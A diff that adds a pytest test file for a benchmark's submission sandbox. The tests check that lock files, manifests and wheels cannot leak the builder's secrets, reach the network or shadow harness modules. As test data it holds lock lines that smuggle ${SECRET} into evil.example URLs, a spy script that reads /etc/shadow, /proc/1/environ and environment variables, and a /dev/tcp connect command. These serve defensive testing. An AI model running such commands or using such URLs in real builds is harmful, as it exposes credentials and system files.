@@ -1,0 +1,193 @@
+"""Locks and wheels that reach for the person who builds them, or replace the harness that measures them."""
+
+from __future__ import annotations
+
+import shutil
+import socket
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from submission_factory import LOCK, MANIFEST, make_submission, make_wheel
+from worldstrat_bench.digests import file_sha256
+from worldstrat_bench.errors import InvalidArtefactError
+from worldstrat_bench.submission.build_sandbox import BuildRoom, usable
+from worldstrat_bench.submission.check import check
+from worldstrat_bench.submission.environments import EnvironmentRequest, build_environment
+from worldstrat_bench.submission.harness_base import provided, refuse_replaced
+from worldstrat_bench.submission.lock import LockError, parse_lock
+from worldstrat_bench.submission.manifest import ManifestError, parse_manifest
+from worldstrat_bench.worker.bubblewrap import find_bubblewrap
+
+HASH = f"--hash=sha256:{'a' * 64}"
+BUILDERS = [pytest.param(False, id="pip"), pytest.param(True, id="uv")]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        f"a @ https://evil.example/${{SECRET}}/a-1-py3-none-any.whl {HASH}",
+        f"a @ https://evil.example/$SECRET/a-1-py3-none-any.whl {HASH}",
+        f"a @ https://evil.example/{{SECRET}}/a-1-py3-none-any.whl {HASH}",
+        f"a @ https://${{SECRET}}.evil.example/a-1-py3-none-any.whl {HASH}",
+        f"a @ \\\n  https://evil.example/${{SECRET}}/a-1-py3-none-any.whl \\\n  {HASH}",
+        f"a==1+${{SECRET}} {HASH}",
+        f"a==1 ; platform_version == '${{SECRET}}' {HASH}",
+    ],
+)
+def test_a_lock_names_no_variable_of_the_builder(line: str) -> None:
+    with pytest.raises(LockError, match="variable") as caught:
+        parse_lock(f"# honest so far\n{line}\n")
+    assert caught.value.line == 2
+
+
+def test_a_lock_with_an_address_and_a_marker_is_read() -> None:
+    marker = 'python_version >= "3.9" and platform_machine == "x86_64"'
+    lock = f"a @ https://example.org/a%24-1.whl ; {marker} {HASH}\nb==1+cpu {HASH}  # costs 3 $ {{or more}}\n"
+    assert [item.name for item in parse_lock(lock)] == ["a", "b"]
+
+
+def test_nor_does_the_address_of_a_wheel() -> None:
+    pinned = 'wheel = "https://example.org/{}/w.whl"\nwheel_sha256 = "' + "a" * 64 + '"\nframes = 8'
+    assert parse_manifest(MANIFEST.replace("frames = 8", pinned.format("v1,2;3"))).model.wheel is not None
+    for name in ("$SECRET", "${SECRET}", "{SECRET}"):
+        with pytest.raises(ManifestError, match=r"model\.wheel"):
+            parse_manifest(MANIFEST.replace("frames = 8", pinned.format(name)))
+
+
+SPY = """#!/bin/sh
+{ env; cat "$1/secret.txt" "$2" 2>&1; ls "$1"; cat /etc/shadow /root/.bashrc /proc/1/environ; } > seen.txt 2>&1
+cp seen.txt "$3/requirements.txt"
+"""
+
+
+def test_a_builder_has_neither_variables_nor_files_of_ours(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("SECRET_TOKEN", "s3cr3t")
+    monkeypatch.setenv("PIP_INDEX_URL", "https://user:s3cr3t@example.org/")
+    (tmp_path / "secret.txt").write_text("s3cr3t of a file")
+    spy = tmp_path / "tools" / "spy"
+    spy.parent.mkdir()
+    spy.write_text(SPY)
+    spy.chmod(0o755)
+    home, scratch = tmp_path / "home", tmp_path / "scratch"
+    for folder in (home, scratch):
+        folder.mkdir()
+    room = BuildRoom(home, scratch, (spy,))
+    room.run([str(spy), str(tmp_path), str(Path(__file__)), str(home)], "spy")
+    seen = (home / "requirements.txt").read_text()
+    assert "SECRET_TOKEN" not in seen
+    assert "user:" not in seen
+    names = {line.split("=")[0] for line in seen.splitlines() if line[:1].isupper() and "=" in line}
+    assert {"HOME", "PATH"} <= names <= {*room.variables(), "PWD", "OLDPWD", "SHLVL", "_"}
+    program = find_bubblewrap()
+    if program is None or not usable(program):
+        pytest.skip("no bubblewrap here: the rest needs it")
+    assert "s3cr3t" not in seen
+    assert "Locks and wheels that reach" not in seen
+
+
+def test_a_builder_reaches_the_network_only_if_it_may(tmp_path: Path) -> None:
+    program = find_bubblewrap()
+    if program is None or not usable(program):
+        pytest.skip("no bubblewrap here")
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        connect = f"exec 3<>/dev/tcp/127.0.0.1/{server.getsockname()[1]}"
+        for network in (True, False):
+            room = BuildRoom(tmp_path / f"home{network}", tmp_path / f"scratch{network}", network=network)
+            room.home.mkdir()
+            room.scratch.mkdir()
+            if network:
+                room.run(["/bin/bash", "-c", connect], "connect")
+            else:
+                with pytest.raises(InvalidArtefactError, match="could not connect"):
+                    room.run(["/bin/bash", "-c", connect], "connect")
+
+
+@pytest.mark.parametrize("uv", BUILDERS)
+def test_both_builders_run_there(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, uv: bool) -> None:
+    lines: list[list[str]] = []
+    honest = subprocess.run
+
+    def recorded(command: list[str], **options: object) -> object:
+        if "env" in options:
+            lines.append([str(part) for part in command])
+            assert "SECRET_TOKEN" not in options["env"]  # type: ignore[operator]
+        return honest(command, **options)  # type: ignore[call-overload]
+
+    monkeypatch.setenv("SECRET_TOKEN", "s3cr3t")
+    monkeypatch.setattr("worldstrat_bench.submission.build_sandbox.subprocess.run", recorded)
+    wheel = make_wheel(tmp_path / "links")
+    lock = f"my-sr==1.0 --hash=sha256:{file_sha256(wheel)}\n"
+    python = build_environment(
+        EnvironmentRequest(lock), tmp_path / "envs", find_links=wheel.parent, offline=True, uv=uv
+    )
+    assert python.is_file()
+    assert len(lines) == 2  # the environment, then the lock
+    assert not list((tmp_path / "envs").glob("*.scratch"))
+
+
+@pytest.mark.parametrize("name", ["torch", "numpy", "Pillow", "safetensors", "worldstrat_bench", "SciPy"])
+def test_a_lock_over_the_harness_names_nothing_of_it(tmp_path: Path, name: str) -> None:
+    folder = make_submission(tmp_path)
+    assert check([folder]).ok
+    (folder / "requirements.lock").write_text(f"{LOCK}{name}==0.0.1 {HASH}\n")
+    (fault,) = check([folder]).errors
+    assert (fault.rule, fault.line) == ("lock", 3)
+    assert "comes from the harness" in fault.what
+    manifest = folder / "submission.toml"
+    manifest.write_text(manifest.read_text().replace('base = "harness"', 'base = "locked"'))
+    assert not any("comes from the harness" in fault.what for fault in check([folder]).errors)
+
+
+def test_nor_another_version_of_what_is_installed_beside_it() -> None:
+    locked = parse_lock(f"einops==0.7 {HASH}\ntimm==1.0 {HASH}\n")
+    refuse_replaced(locked, {"einops": "0.7", "torch": "2.6"})
+    with pytest.raises(LockError, match=r"timm comes from the harness, in version 0\.9") as caught:
+        refuse_replaced(locked, {"einops": "0.7", "timm": "0.9"})
+    assert caught.value.line == 2
+    assert "torch" in provided()
+
+
+@pytest.mark.parametrize(
+    ("module", "uv"),
+    [
+        ("PIL/__init__.py", False),
+        ("PIL/__init__.py", True),
+        ("torch.py", False),
+        ("numpy/linalg.py", False),
+        ("", True),
+    ],
+)
+def test_an_environment_over_the_harness_shadows_none_of_its_modules(tmp_path: Path, module: str, uv: bool) -> None:
+    files = {module: b"# mine now\n"} if module else {"my_sr_extra/linalg.py": b""}
+    wheel = make_wheel(tmp_path / "links", name="innocent", entry_points="", files=files)
+    request = EnvironmentRequest(f"innocent==1.0 --hash=sha256:{file_sha256(wheel)}\n", over_harness=True)
+    places = {"find_links": wheel.parent, "offline": True, "uv": uv}
+    if not module:
+        assert build_environment(request, tmp_path / "envs", **places).is_file()  # type: ignore[arg-type]
+        return
+    with pytest.raises(InvalidArtefactError, match=f"module '{module.split('/', maxsplit=1)[0].split('.')[0]}'"):
+        build_environment(request, tmp_path / "envs", **places)  # type: ignore[arg-type]
+    assert not list((tmp_path / "envs").glob("*/bin"))
+
+
+def test_a_wheel_beside_the_manifest_that_calls_itself_pil_is_refused(tmp_path: Path) -> None:
+    folder = make_submission(tmp_path)
+    honest = make_wheel(folder)
+    assert check([folder]).ok
+    honest.unlink()
+    shutil.move(make_wheel(tmp_path / "w", files={"PIL/__init__.py": b""}), folder)
+    assert [fault.rule for fault in check([folder]).errors] == ["wheel-shadow"]
+
+
+def test_two_namespace_packages_may_share_a_folder(tmp_path: Path) -> None:
+    from worldstrat_bench.submission.harness_base import refuse_shadowed
+
+    for side, module in (("ours", "a"), ("theirs", "b")):
+        (tmp_path / side / "shared").mkdir(parents=True)
+        (tmp_path / side / "shared" / f"{module}.py").touch()
+    refuse_shadowed(tmp_path / "ours", [tmp_path / "theirs"], ())
+    (tmp_path / "ours" / "shared" / "b.py").touch()
+    with pytest.raises(InvalidArtefactError, match=r"shared\.b"):
+        refuse_shadowed(tmp_path / "ours", [tmp_path / "theirs"], ())
